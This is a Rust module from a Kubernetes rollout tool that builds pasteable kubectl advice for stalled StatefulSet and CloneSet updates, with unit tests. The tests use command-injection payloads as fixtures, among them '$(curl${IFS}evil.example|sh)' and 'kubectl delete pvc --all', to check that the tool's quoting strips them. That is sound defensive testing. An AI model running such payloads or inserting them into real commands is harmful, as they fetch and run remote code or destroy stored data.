//! What the user can do about a wait, with a command that can be pasted as it stands.

mod provide;
mod refusals;

pub use self::provide::Lack;

use super::{Refusal, WaitCause};
use crate::hints::Failure;
use crate::lines::in_command;
use flotilla_api::names;
use serde_json::Value;

/// Words of kubelets for a container that was never begun: there are no logs of it.
const NEVER_RAN: [&str; 3] = [
    "CreateContainerConfigError",
    "CreateContainerError",
    "RunContainerError",
];

/// What keeps a pod from being as the template says.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Keeper {
    /// The update is paused.
    Pause,
    /// The partition.
    Partition,
    /// Its turn, which comes when the pods of the template's revision serve.
    Order,
    /// The manager, which has yet to look at the set: it was edited since.
    Edit,
    /// Its node, which has yet to look at the image that it has, or gets, by now.
    Change,
    /// That it is of the template's revision: somebody has given it another image, which no update undoes.
    Patch,
}

/// Going back to an earlier revision.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum GoBack {
    /// There is none to go back to, or no reason to.
    No,
    /// To the one before.
    ToTheOneBefore,
    /// To that of this number.
    To(i64),
}

/// For whom advice is: what its commands name.
// Four independent facts, not a state.
#[allow(clippy::struct_excessive_bools)]
#[derive(Clone, Copy, Debug)]
pub struct Whom<'a> {
    /// The set in the words of kubectl, such as `statefulset.apps/web`.
    pub set: &'a str,
    /// Its namespace.
    pub namespace: &'a str,
    /// The pod in question is of a revision that the set does not want any more, as after a rollback, and nothing keeps it so.
    pub is_former: bool,
    /// The pod in question is not as the template says, and this keeps it so.
    pub kept_by: Option<Keeper>,
    /// Which revision there is to go back to.
    pub go_back: GoBack,
    /// The partition is that of `flotilla rollout pause`, which is how a native set is paused.
    pub is_paused: bool,
    /// A pod that is deleted takes its claims along, and the data in them, as those of a CloneSet do that does not use them again.
    pub loses_claims: bool,
    /// The set's claim templates, as they stand there.
    pub claim_templates: &'a [Value],
    /// Pods that others wait for, and that are not there: nobody can delete them.
    pub missing: &'a [String],
    /// Pods that advice may name, and that are not the set's own.
    pub of_others: &'a [String],
    /// The pod in question, as far as it is known.
    pub pod: Option<&'a Value>,
}

impl Whom<'_> {
    /// A set of which nothing else is known.
    pub const fn of<'a>(set: &'a str, namespace: &'a str) -> Whom<'a> {
        Whom {
            set,
            namespace,
            is_former: false,
            kept_by: None,
            go_back: GoBack::ToTheOneBefore,
            is_paused: false,
            loses_claims: false,
            claim_templates: &[],
            missing: &[],
            of_others: &[],
            pod: None,
        }
    }

    /// The pod in question is of another revision than the template's.
    pub fn is_old(&self) -> bool {
        self.is_former || self.kept_by.is_some_and(|keeper| keeper != Keeper::Patch)
    }

    /// The set in a command.
    fn set(&self) -> String {
        self.set.split('/').map(in_command).collect::<Vec<_>>().join("/")
    }

    /// Its namespace in a command.
    fn namespace(&self) -> &str {
        in_command(self.namespace)
    }

    fn describe(&self, kind: &str, name: &str) -> String {
        format!("kubectl describe {kind} {} -n {}", in_command(name), self.namespace())
    }

    fn edit_pod(&self, pod: &str) -> String {
        format!("kubectl edit pod {} -n {}", in_command(pod), self.namespace())
    }

    fn logs(&self, pod: &str, container: &str) -> String {
        let (pod, container) = (in_command(pod), in_command(container));
        format!("kubectl logs {pod} -c {container} -n {}", self.namespace())
    }

    fn delete(&self, pod: &str) -> String {
        let is_of_others = self.of_others.iter().any(|other| other == pod);
        format!(
            "kubectl delete pod {} -n {}{}",
            in_command(pod),
            self.namespace(),
            self.cost_of(is_of_others)
        )
    }

    /// What the deletion of a pod costs, which a shell takes for a comment. Whether pods of others take their claims along is known to those alone.
    pub fn cost_of(&self, is_of_others: bool) -> &'static str {
        match (is_of_others, self.loses_claims) {
            (true, _) => "  # claims that pods own go with them, and the data in them",
            (false, true) => "  # its claims go with it, and the data in them",
            (false, false) => "",
        }
    }

    /// What helps where a node does not answer, by its name.
    pub fn bring_back(&self, node: &str) -> String {
        let cost = if self.loses_claims {
            "  # claims go with their pods, and the data in them"
        } else {
            self.cost_of(true)
        };
        format!(
            "bring it back; or, only if it is off for good, let all of its pods go, also those of others: kubectl delete node {}{cost}",
            in_command(node)
        )
    }

    fn resume(&self) -> String {
        format!("resume: flotilla rollout resume {} -n {}", self.set(), self.namespace())
    }

    /// What keeps an object that is being deleted, and where it is taken away.
    fn release(finalizers: &[String], edit: &str) -> String {
        let them = match finalizers {
            [only] => only.clone(),
            many => many.join(", "),
        };
        format!("whoever put {them} there takes it away when all is cleared up; if nobody does so any more: {edit}")
    }

    fn edit(&self) -> String {
        format!("kubectl edit {} -n {}", self.set(), self.namespace())
    }

    /// What to correct where a field cannot be used.
    fn correct(&self, path: &str) -> String {
        if path == "spec.selector" {
            return format!(
                "correct the template's labels; or, as a selector cannot be changed, make the set again with another, and leave its pods: kubectl \
                 delete {} -n {} --cascade=orphan",
                self.set(),
                self.namespace()
            );
        }
        format!("correct {path}: {}", self.edit())
    }

    /// Going back, or what there is where one cannot.
    fn roll_back(&self) -> String {
        let undo = || {
            format!(
                "roll back: flotilla rollout undo {} -n {}",
                self.set(),
                self.namespace()
            )
        };
        match self.go_back {
            GoBack::No => format!("correct the template: {}", self.edit()),
            GoBack::ToTheOneBefore => undo(),
            GoBack::To(number) => format!("{} --to-revision {number}", undo()),
        }
    }
}

impl WaitCause {
    /// What the user can do about it, if anything.
    pub fn advice(&self, subject: &str, whom: &Whom<'_>) -> Option<String> {
        if let Some(advice) = self.advice_of_an_old_pod(subject, whom) {
            return Some(advice);
        }
        Some(match self {
            WaitCause::Order { behind } | WaitCause::ScaleDownBehindUnhealthy { pod: behind } => {
                // What others own is not for this set to delete.
                if whom.missing.contains(behind) || whom.of_others.contains(behind) {
                    return None;
                }
                format!(
                    "make {behind} healthy, or delete it if its revision is broken: {}",
                    whom.delete(behind)
                )
            }
            WaitCause::UpdateBudget { .. } => format!(
                "wait, make those pods available, or raise maxUnavailable: {}",
                whom.edit()
            ),
            WaitCause::KeepsAvailable { .. } => format!(
                "wait, make other pods available, or raise maxUnavailable: {}",
                whom.edit()
            ),
            WaitCause::Brake { .. } => format!("see why the updated pods are not available, or {}", whom.roll_back()),
            WaitCause::ClaimTemplateMissing { volume } => {
                format!("add a claim template {volume}: {}", whom.edit())
            }
            WaitCause::ScaleBudget { .. } => {
                format!(
                    "wait, make those pods available, or raise scaleStrategy.maxUnavailable: {}",
                    whom.edit()
                )
            }
            WaitCause::Partition { .. } if whom.is_paused => whom.resume(),
            WaitCause::Partition { .. } => format!("lower the partition to go on: {}", whom.edit()),
            WaitCause::Paused => whom.resume(),
            WaitCause::OnDelete { .. } => {
                let cost = if whom.loses_claims {
                    ", whose claims and data go with them"
                } else {
                    ""
                };
                format!(
                    "delete the old pods when it suits you{cost}; see them: kubectl get pods -L controller-revision-hash -n {}",
                    whom.namespace()
                )
            }
            // The pods are gone by then, and those of a CloneSet had other names.
            WaitCause::StartBackOff { .. } => {
                format!("find out why they end: kubectl get events -n {}", whom.namespace())
            }
            WaitCause::FieldUnreadable { path, .. } => whom.correct(path),
            WaitCause::ForeignWriter { .. } => {
                "stop the other controller, or run Flotilla without --native-statefulset".to_owned()
            }
            other => return other.advice_of_a_name(subject, whom),
        })
    }

    /// What the user can do about an object whose name or owner is in the way.
    fn advice_of_a_name(&self, subject: &str, whom: &Whom<'_>) -> Option<String> {
        Some(match self {
            WaitCause::RevisionLeaving => {
                format!(
                    "the garbage collector lets it go; if it does not, remove its owner reference: kubectl edit controllerrevision {} -n {}",
                    in_command(subject),
                    whom.namespace()
                )
            }
            WaitCause::OrdinalTooLarge { .. } => {
                format!("delete it, or take its owner reference off: {}", whom.delete(subject))
            }
            WaitCause::NameTaken { owner: None } => {
                let of_others = &[subject.to_owned()];
                let whom = Whom { of_others, ..*whom };
                format!("let the set adopt it, or delete it: {}", whom.delete(subject))
            }
            // It may well serve, and its owner makes it again where it is deleted.
            WaitCause::NameTaken { owner: Some(owner) } => format!(
                "the name belongs to {}, whose pod it is: give one of the two sets another name, or let one of them go; see the pod: {}",
                owner_in_words(owner),
                whom.describe("pod", subject)
            ),
            other => return other.advice_of_a_pod(subject, whom),
        })
    }

    /// What the user can do about a pod that fails and is of another revision than the template's: to correct that is no help.
    fn advice_of_an_old_pod(&self, subject: &str, whom: &Whom<'_>) -> Option<String> {
        if whom.is_former && self.is_of_a_pod_that_fails() {
            return Some(format!(
                "delete it: the set wants another revision by now, and a pod of that takes its place: {}",
                whom.delete(subject)
            ));
        }
        if whom.kept_by == Some(Keeper::Order) && self.is_of_a_pod_that_fails() {
            return Some(format!(
                "it is of an old revision, and its turn comes when the new pods serve; see these: kubectl get pods -L \
                 controller-revision-hash -n {}",
                whom.namespace()
            ));
        }
        if whom.kept_by == Some(Keeper::Edit) && self.is_of_a_pod_that_fails() {
            return Some(format!(
                "the set was edited since, and its manager has yet to look at it; ask again: flotilla why {} -n {}",
                whom.set(),
                whom.namespace()
            ));
        }
        if whom.kept_by == Some(Keeper::Patch) && self.is_of_a_pod_that_fails() {
            return Some(format!(
                "delete it: somebody gave it another image than the set's template names, and a pod of that takes its place: {}",
                whom.delete(subject)
            ));
        }
        // The template may well name a good one: what it says does not reach this pod.
        let is_of_an_image = matches!(self, WaitCause::ContainerCannotStart { reason, .. } if reason.contains("Image"));
        let keeper = whom.kept_by.filter(|_| is_of_an_image)?;
        Some(match keeper {
            Keeper::Pause => format!(
                "its image is that of an old revision, which the pause keeps: provide that image, or {}",
                whom.resume()
            ),
            Keeper::Change => format!(
                "it has, or gets, another image by now, which its node has yet to look at; see what it says then: {}",
                whom.describe("pod", subject)
            ),
            Keeper::Order | Keeper::Edit | Keeper::Patch => return None,
            Keeper::Partition => format!(
                "its image is that of an old revision, which the partition keeps: provide that image, or lower the partition: {}",
                whom.edit()
            ),
        })
    }

    /// What the user can do about a pod that does not come up, or about what does not go.
    fn advice_of_a_pod(&self, subject: &str, whom: &Whom<'_>) -> Option<String> {
        Some(match self {
            WaitCause::PodNotReady { reason, .. } if reason == "Unschedulable" => {
                format!(
                    "free or add nodes that fit it; see which are missing: {}",
                    whom.describe("pod", subject)
                )
            }
            // Only kubelets say so of volumes.
            WaitCause::PodNotReady { reason, message } => whom
                .provide(message)
                .filter(|_| reason == "FailedMount")
                .unwrap_or_else(|| {
                    let describe = whom.describe("pod", subject);
                    if message.starts_with("readiness gate ") {
                        format!("see that whoever sets these conditions of the pod runs: {describe}")
                    } else {
                        format!("see its events, and its logs: {describe}")
                    }
                }),
            WaitCause::ContainerCannotStart { reason, .. } if reason.contains("Image") => {
                if whom.go_back == GoBack::No {
                    format!("correct the image in the set's template: {}", whom.edit())
                } else {
                    format!("correct the image in the set's template, or {}", whom.roll_back())
                }
            }
            WaitCause::ContainerCannotStart { reason, message, .. } if NEVER_RAN.contains(&reason.as_str()) => {
                let provide = whom.provide(message);
                let provide = provide.unwrap_or_else(|| format!("see why: {}", whom.describe("pod", subject)));
                format!("{provide}; or {}", whom.roll_back())
            }
            WaitCause::ContainerCannotStart { container, .. } => {
                format!(
                    "see why: {} --previous; or {}",
                    whom.logs(subject, container),
                    whom.roll_back()
                )
            }
            WaitCause::PodTerminating { finalizers, .. } if !finalizers.is_empty() => {
                Whom::release(finalizers, &whom.edit_pod(subject))
            }
            WaitCause::PodTerminating { .. } => format!(
                "it goes when its containers have ended, at the latest when its grace period is over; if it stays, see what is said of it: {}",
                whom.describe("pod", subject)
            ),
            WaitCause::SetTerminating { finalizers } => match finalizers.as_slice() {
                [] => return None,
                // By these the garbage collector waits for what the set owns.
                [only] if only == "foregroundDeletion" || only == "orphan" => format!(
                    "it goes when its pods and revisions have gone, or are nobody's; see the pods: kubectl get pods -n {}",
                    whom.namespace()
                ),
                _ => Whom::release(finalizers, &whom.edit()),
            },
            WaitCause::NamespaceTerminating { .. } => format!(
                "see what is left in it: kubectl get namespace {} -o yaml",
                whom.namespace()
            ),
            other => return other.advice_of_claims(subject, whom),
        })
    }

    /// What the user can do about a claim, or about what was refused or changed.
    fn advice_of_claims(&self, subject: &str, whom: &Whom<'_>) -> Option<String> {
        if let Some(advice) = self.advice_on_refusal(whom) {
            return Some(advice);
        }
        Some(match self {
            WaitCause::ClaimTerminating { used_by, finalizers } => {
                Self::advice_of_a_claim_that_goes(subject, (used_by, finalizers), whom)
            }
            WaitCause::ClaimsLeftBehind { .. } => format!(
                "set updateStrategy.type to RollingUpdate, or volumeClaimUpdateStrategy.type to OnDelete if they may stay: {}",
                whom.edit()
            ),
            WaitCause::FileSystemPending { restart_at: None } => {
                format!(
                    "wait, or delete the pod that mounts it, as its file system grows at the next mount; see which that is: {}",
                    whom.describe("pvc", subject)
                )
            }
            WaitCause::ClaimExpanding => {
                format!(
                    "wait; if it does not grow, see what its driver says: {}",
                    whom.describe("pvc", subject)
                )
            }
            WaitCause::ClaimStale { .. } => format!(
                "wait for the garbage collector; if it stays, see whose it is: {}",
                whom.describe("pvc", subject)
            ),
            WaitCause::ChangedByOthers { .. } => {
                format!(
                    "see which webhook changes it: kubectl get pod {} -n {} --show-managed-fields -o yaml",
                    in_command(subject),
                    whom.namespace()
                )
            }
            WaitCause::ClaimIncompatible { .. } => format!(
                "set the template back: {}; or make the claim again by hand, and save its data first, since they go with it: {}",
                whom.edit(),
                whom.describe("pvc", subject)
            ),
            WaitCause::RevisionUnproven {
                reason,
                all_at_once: true,
                ..
            } if reason == Failure::QUOTA_EXCEEDED => format!(
                "raise the namespace's ResourceQuota, or free some of it, if pods are missing: kubectl describe resourcequota -n {}",
                whom.namespace()
            ),
            WaitCause::RevisionUnproven { all_at_once: true, .. } => format!(
                "let the webhook that the message names take dry runs (sideEffects None), or update by RollingUpdate until one new pod is there: {}",
                whom.edit()
            ),
            WaitCause::HeldBack { .. } => format!(
                "see what has happened to its pods: kubectl get events -n {}",
                whom.namespace()
            ),
            WaitCause::Repeated { .. } => {
                format!(
                    "find out what undoes it, such as another controller or a webhook: kubectl get events -n {}",
                    whom.namespace()
                )
            }
            other => return other.advice_in_place(subject, whom),
        })
    }

    fn advice_of_a_claim_that_goes(
        subject: &str,
        (used_by, finalizers): (&[String], &[String]),
        whom: &Whom<'_>,
    ) -> String {
        if let Some(pod) = used_by.first() {
            return format!(
                "it goes, with its data, when no pod uses it; if that is meant, let the pod go: {}",
                whom.delete(pod)
            );
        }
        if !finalizers.is_empty() {
            let edit = format!("kubectl edit pvc {} -n {}", in_command(subject), whom.namespace());
            return Whom::release(finalizers, &edit);
        }
        format!(
            "the claim goes when no pod uses it and its finalizers are done; see who does: {}",
            whom.describe("pvc", subject)
        )
    }

    /// What the user can do about a hook, a launch barrier or an update in place.
    fn advice_in_place(&self, subject: &str, whom: &Whom<'_>) -> Option<String> {
        Some(match self {
            WaitCause::LifecycleState { .. } => {
                format!(
                    "if nobody else takes the label off: kubectl label pod {} {}- -n {}",
                    in_command(subject),
                    names::LIFECYCLE_STATE_LABEL,
                    whom.namespace()
                )
            }
            WaitCause::HookHolds { markers, .. } => {
                let (markers, edit) = (in_words(markers), whom.edit_pod(subject));
                format!("whoever owns the hook has to take away {markers} from pod {subject}: {edit}")
            }
            WaitCause::HookLacks { markers, .. } => {
                let (markers, edit) = (in_words(markers), whom.edit_pod(subject));
                format!("whoever owns the hook has to put {markers} on pod {subject}: {edit}")
            }
            WaitCause::LaunchBarrier { barrier, behind, .. } => match behind.first() {
                Some(first) => format!("see why {first} is not up: {}", whom.logs(subject, first)),
                None => format!(
                    "see the config map, which has to belong to pod {subject}: {}",
                    whom.describe("configmap", barrier)
                ),
            },
            WaitCause::InPlaceBatch { .. } => format!("see {}", whom.describe("pod", subject)),
            WaitCause::InPlaceRestart { container, .. } => {
                format!(
                    "see its events, and its logs ({}): {}",
                    whom.logs(subject, container),
                    whom.describe("pod", subject)
                )
            }
            WaitCause::InPlaceEnvironment { .. } => {
                format!(
                    "only the node agent can tell what environment a container has; see that it runs on the pod's node: {}",
                    whom.describe("pod", subject)
                )
            }
            WaitCause::InPlaceResize { .. } => {
                format!("wait, or make room on the node: {}", whom.describe("pod", subject))
            }
            WaitCause::ResizeInfeasible { .. } => {
                format!(
                    "ask for resources that the node has, or use podUpdatePolicy InPlaceIfPossible: {}",
                    whom.edit()
                )
            }
            WaitCause::InPlaceNotPossible { .. } => {
                format!(
                    "change only what can be changed in place, use podUpdatePolicy InPlaceIfPossible, or delete the pod: {}",
                    whom.delete(subject)
                )
            }
            WaitCause::InPlaceAbandoned { .. } => {
                format!(
                    "it is made again when its turn comes, which is never where the partition keeps it; to have that at once, delete it: {}",
                    whom.delete(subject)
                )
            }
            WaitCause::InPlaceUnreadable => {
                format!(
                    "delete the pod, since nobody knows what it lacks: {}",
                    whom.delete(subject)
                )
            }
            _ => return None,
        })
    }

    /// Whether it is about one pod that does not come up by itself.
    fn is_of_a_pod_that_fails(&self) -> bool {
        matches!(
            self,
            WaitCause::PodNotReady { .. }
                | WaitCause::ContainerCannotStart { .. }
                | WaitCause::InPlaceRestart { .. }
                | WaitCause::InPlaceBatch { .. }
                | WaitCause::InPlaceResize { .. }
                | WaitCause::ResizeInfeasible { .. }
                | WaitCause::LaunchBarrier { .. }
        )
    }
}

/// The owner of a pod, `KIND NAME`, of which users may have made anything.
fn owner_in_words(owner: &str) -> String {
    let words = owner.split_once(' ').filter(|(kind, name)| {
        let is_kind = !kind.is_empty() && kind.bytes().all(|b| b.is_ascii_alphanumeric());
        is_kind && in_command(name) == *name
    });
    words.map_or("another owner".to_owned(), |_| owner.to_owned())
}

/// Markers of hooks, of which users may have made anything.
fn in_words(markers: &[String]) -> String {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || " ./_=-".contains(c);
    let word = |marker: &String| {
        if marker.chars().all(is_plain) {
            marker.clone()
        } else {
            "a marker that is no name".to_owned()
        }
    };
    markers.iter().map(word).collect::<Vec<_>>().join(", ")
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Without its notes a pod would seem to be done, and would serve with its former image under the label of the new revision.
    #[test]
    fn sts_8_19_nobody_is_told_to_take_notes_off_a_pod_that_lacks_what_nobody_knows() {
        let whom = Whom::of("statefulset.apps/web", "shop");
        let reason = "what its grace period was for cannot be read".to_owned();
        let kept = WaitCause::InPlaceAbandoned { reason }.advice("web-2", &whom);
        assert!(kept.is_some_and(|advice| advice.ends_with(": kubectl delete pod web-2 -n shop")));
        let advice = WaitCause::InPlaceUnreadable.advice("web-2", &whom).expect("advice");
        assert!(advice.ends_with("kubectl delete pod web-2 -n shop"), "{advice}");
        assert!(!advice.contains("annotation"), "{advice}");
    }

    #[test]
    fn after_a_rollback_the_pod_that_holds_it_up_is_to_be_deleted() {
        let cause = WaitCause::ContainerCannotStart {
            container: "main".into(),
            reason: "ImagePullBackOff".into(),
            message: String::new(),
        };
        let whom = Whom::of("statefulset.apps/web", "shop");
        let forward = cause.advice("web-2", &whom).expect("advice");
        assert!(
            forward.ends_with("roll back: flotilla rollout undo statefulset.apps/web -n shop"),
            "{forward}"
        );
        let to_one_that_serves = Whom {
            go_back: GoBack::To(3),
            ..whom
        };
        let advice = cause.advice("web-2", &to_one_that_serves).expect("advice");
        assert!(
            advice.ends_with("roll back: flotilla rollout undo statefulset.apps/web -n shop --to-revision 3"),
            "{advice}"
        );
        let back = Whom {
            is_former: true,
            ..whom
        };
        let advice = cause.advice("web-2", &back).expect("advice");
        assert!(advice.ends_with("kubectl delete pod web-2 -n shop"), "{advice}");
        assert!(!advice.contains("undo"), "{advice}");
        // What the template says does not reach a pod that keeps its revision.
        for (keeper, end) in [
            (
                Keeper::Pause,
                "resume: flotilla rollout resume statefulset.apps/web -n shop",
            ),
            (Keeper::Partition, "kubectl edit statefulset.apps/web -n shop"),
        ] {
            let kept = Whom {
                kept_by: Some(keeper),
                ..whom
            };
            let advice = cause.advice("web-2", &kept).expect("advice");
            assert!(advice.ends_with(end) && !advice.contains("undo"), "{advice}");
        }
        // What a pod lacks at any revision it lacks at the next one, too.
        let lacks = WaitCause::ContainerCannotStart {
            container: "main".into(),
            reason: "CreateContainerConfigError".into(),
            message: "secret \"login\" not found".into(),
        };
        let kept = Whom {
            kept_by: Some(Keeper::Pause),
            ..whom
        };
        let advice = lacks.advice("web-2", &kept).expect("advice");
        assert!(advice.contains("kubectl create secret generic login"), "{advice}");
        // Users name markers, and what they name stands in what others paste.
        let hook = WaitCause::HookLacks {
            hook: "preNormal",
            markers: vec!["finalizer x: kubectl delete pvc --all #".into(), "label a.b/c=d".into()],
        };
        let advice = hook.advice("web-2", &whom).expect("advice");
        assert!(!advice.contains("pvc") && advice.contains("label a.b/c=d"), "{advice}");
        let losing = Whom {
            loses_claims: true,
            ..back
        };
        let advice = cause.advice("web-2", &losing).expect("advice");
        assert!(
            advice.ends_with("kubectl delete pod web-2 -n shop  # its claims go with it, and the data in them"),
            "{advice}"
        );
        let first = Whom {
            go_back: GoBack::No,
            ..whom
        };
        let advice = cause.advice("web-2", &first).expect("advice");
        assert!(
            advice.ends_with("kubectl edit statefulset.apps/web -n shop"),
            "{advice}"
        );
    }

    #[test]
    fn whoever_is_told_to_delete_old_pods_is_told_what_that_costs() {
        let whom = Whom::of("cloneset.apps.kruise.io/web", "shop");
        for (loses_claims, costs) in [(false, false), (true, true)] {
            let whom = Whom { loses_claims, ..whom };
            let advice = WaitCause::OnDelete { old: 2 }.advice("web", &whom).expect("advice");
            assert_eq!(advice.contains("whose claims and data go with them"), costs, "{advice}");
        }
    }

    #[test]
    fn whoever_is_told_to_make_a_claim_again_is_told_what_that_costs() {
        let cause = WaitCause::ClaimIncompatible {
            difference: "access modes".into(),
        };
        let advice = cause.advice("data-web-2", &Whom::of("statefulset.apps.kruise.io/web", "shop"));
        assert_eq!(
            advice.as_deref(),
            Some(
                "set the template back: kubectl edit statefulset.apps.kruise.io/web -n shop; or make the claim again by hand, and save its data \
                 first, since they go with it: kubectl describe pvc data-web-2 -n shop"
            )
        );
    }

    #[test]
    fn what_a_pod_lacks_is_named_with_the_command_that_makes_it() {
        let whom = Whom::of("statefulset.apps/web", "shop");
        let cannot = |reason: &str, message: &str| WaitCause::ContainerCannotStart {
            container: "main".into(),
            reason: reason.into(),
            message: message.into(),
        };
        let refused = |message: &str| WaitCause::Refused {
            reason: "Forbidden".into(),
            message: message.into(),
            retry_at: None,
        };
        let not_ready = |reason: &str, message: &str| WaitCause::PodNotReady {
            reason: reason.into(),
            message: message.into(),
        };
        for (cause, command) in [
            (
                cannot("CreateContainerConfigError", "secret \"nosec\" not found"),
                "kubectl create secret generic nosec -n shop",
            ),
            (
                cannot("CreateContainerConfigError", "configmap \"conf\" not found"),
                "kubectl create configmap conf -n shop",
            ),
            (
                cannot(
                    "CreateContainerConfigError",
                    "couldn't find key user in Secret shop/login",
                ),
                "kubectl edit secret login -n shop",
            ),
            (
                cannot(
                    "CreateContainerConfigError",
                    "container has runAsNonRoot and image will run as root",
                ),
                "kubectl describe pod web-2 -n shop",
            ),
            (cannot("RunContainerError", ""), "kubectl describe pod web-2 -n shop"),
            (
                cannot("CrashLoopBackOff", ""),
                "kubectl logs web-2 -c main -n shop --previous",
            ),
            (
                not_ready(
                    "FailedMount",
                    "MountVolume.SetUp failed for volume \"v\" : secret \"$(x)\" not found",
                ),
                "kubectl create secret generic NAME -n shop",
            ),
            (
                not_ready("ReadinessGatesNotReady", "readiness gate example.com/lb is not set"),
                "whoever sets these conditions",
            ),
            (
                refused("pods \"web-2\" is forbidden: no PriorityClass with name high was found"),
                "kubectl create priorityclass high --value=0",
            ),
            (
                refused("pods \"web-2\" is forbidden: pod rejected: RuntimeClass \"gvisor\" not found"),
                "kubectl get runtimeclass",
            ),
            (
                refused("pods \"web-2\" is forbidden: denied by policy"),
                "kubectl get validatingwebhookconfigurations",
            ),
        ] {
            let advice = cause.advice("web-2", &whom).expect("advice");
            assert!(advice.contains(command), "{advice}");
            let is_of_logs = command.ends_with("--previous");
            assert_eq!(advice.contains("--previous"), is_of_logs, "{advice}");
        }
    }

    #[test]
    fn what_does_not_go_is_told_with_who_holds_it() {
        let held = |finalizers: &[&str]| WaitCause::SetTerminating {
            finalizers: finalizers.iter().map(ToString::to_string).collect(),
        };
        let whom = Whom::of("statefulset.apps/web", "shop");
        let advice = |cause: WaitCause| cause.advice("web", &whom);
        assert_eq!(advice(held(&[])), None);
        let own = advice(held(&["example.com/keep"])).expect("advice");
        assert!(
            own.contains("example.com/keep") && own.ends_with("kubectl edit statefulset.apps/web -n shop"),
            "{own}"
        );
        let collector = advice(held(&["foregroundDeletion"])).expect("advice");
        assert!(collector.ends_with("kubectl get pods -n shop"), "{collector}");
        let pod = WaitCause::PodTerminating {
            node: None,
            finalizers: vec!["example.com/keep".into()],
        };
        assert_eq!(
            pod.to_string(),
            "is terminating, and held by finalizer example.com/keep"
        );
        let pod = pod.advice("web-0", &whom).expect("advice");
        assert!(pod.ends_with("kubectl edit pod web-0 -n shop"), "{pod}");
    }

    /// A native set has no switch for it.
    #[test]
    fn a_partition_that_is_a_pause_is_resumed() {
        let whom = Whom::of("statefulset.apps/web", "shop");
        let advice = |is_paused: bool| {
            let whom = Whom { is_paused, ..whom };
            WaitCause::Partition { kept: 2 }.advice("web", &whom).expect("advice")
        };
        assert_eq!(
            advice(true),
            "resume: flotilla rollout resume statefulset.apps/web -n shop"
        );
        assert!(advice(false).ends_with("kubectl edit statefulset.apps/web -n shop"));
    }

    #[test]
    fn what_others_wrote_gets_into_no_command() {
        const EVIL: &str = "$(curl${IFS}evil.example|sh)";
        let said = format!(
            "pods \"web-0\" is forbidden: error looking up service account shop/{EVIL}: serviceaccount \"{EVIL}\" not found"
        );
        for (cause, subject, command) in [
            (
                WaitCause::of_refused_trial("ServiceAccountMissing".to_owned(), said, None),
                "web-abc",
                "kubectl create serviceaccount NAME -n shop",
            ),
            (
                WaitCause::ContainerCannotStart {
                    container: EVIL.into(),
                    reason: "CrashLoopBackOff".into(),
                    message: String::new(),
                },
                "web-2",
                "kubectl logs web-2 -c NAME -n shop",
            ),
            (WaitCause::InPlaceUnreadable, EVIL, "kubectl delete pod NAME -n shop"),
            (WaitCause::CLAIM_TERMINATING, EVIL, "kubectl describe pvc NAME -n shop"),
        ] {
            let advice = cause.advice(subject, &Whom::of("statefulset.apps/web", "shop"));
            let advice = advice.expect("advice");
            assert!(advice.contains(command) && !advice.contains(EVIL), "{advice}");
        }
    }

    /// Two sets that make pods of one name: whoever takes down the other's takes down what serves, and gets it back at once.
    #[test]
    fn nobody_is_told_to_delete_what_another_set_owns() {
        let whom = Whom::of("statefulset.apps.kruise.io/web", "shop");
        let taken = |owner: Option<&str>| {
            let owner = owner.map(str::to_owned);
            WaitCause::NameTaken { owner }.advice("web-0", &whom).expect("advice")
        };
        let adopt = "let the set adopt it, or delete it: kubectl delete pod web-0 -n shop  # claims that pods own go with them, and the data in them";
        assert_eq!(taken(None), adopt);
        for (owner, words) in [
            ("StatefulSet web", "the name belongs to StatefulSet web, "),
            ("x: kubectl delete pvc --all", "the name belongs to another owner, "),
            ("Job $(sh)", "the name belongs to another owner, "),
        ] {
            let advice = taken(Some(owner));
            assert!(advice.starts_with(words), "{advice}");
            assert!(advice.ends_with(": kubectl describe pod web-0 -n shop"), "{advice}");
            assert!(!advice.contains("delete") && !advice.contains("adopt"), "{advice}");
        }
        // Nor where another pod of the set comes after it.
        let of_others = ["web-0".to_owned()];
        let whom = Whom {
            of_others: &of_others,
            ..whom
        };
        let behind = "web-0".to_owned();
        assert_eq!(WaitCause::Order { behind }.advice("web-1", &whom), None);
    }

    /// Whether claims go with the pods of this set says nothing of those of others.
    #[test]
    fn whoever_is_told_to_delete_a_pod_of_others_is_told_what_that_may_cost() {
        let of_others = ["db-0".to_owned()];
        let advice = |pod: &str, loses_claims: bool| {
            let cause = WaitCause::ClaimTerminating {
                used_by: vec![pod.to_owned()],
                finalizers: vec![],
            };
            let whom = Whom {
                loses_claims,
                of_others: &of_others,
                ..Whom::of("statefulset.apps/web", "shop")
            };
            let advice = cause.advice("data", &whom).expect("advice");
            advice.split_once(" -n shop").map(|(_, cost)| cost.to_owned())
        };
        let may = "  # claims that pods own go with them, and the data in them";
        for (pod, loses_claims, cost) in [
            ("web-0", false, ""),
            ("web-0", true, "  # its claims go with it, and the data in them"),
            ("db-0", false, may),
            ("db-0", true, may),
        ] {
            assert_eq!(advice(pod, loses_claims).as_deref(), Some(cost), "{pod}");
        }
    }

    #[test]
    fn nobody_is_told_to_change_a_selector() {
        let cause = |path: &str| WaitCause::FieldUnreadable {
            path: path.to_owned(),
            found: String::new(),
            rule: String::new(),
        };
        for (path, ending) in [
            ("spec.selector", "kubectl delete cloneset/web -n shop --cascade=orphan"),
            (
                "spec.replicas",
                "correct spec.replicas: kubectl edit cloneset/web -n shop",
            ),
        ] {
            let advice = cause(path).advice("web", &Whom::of("cloneset/web", "shop"));
            assert!(
                advice.as_deref().is_some_and(|text| text.ends_with(ending)),
                "{advice:?}"
            );
        }
    }
}
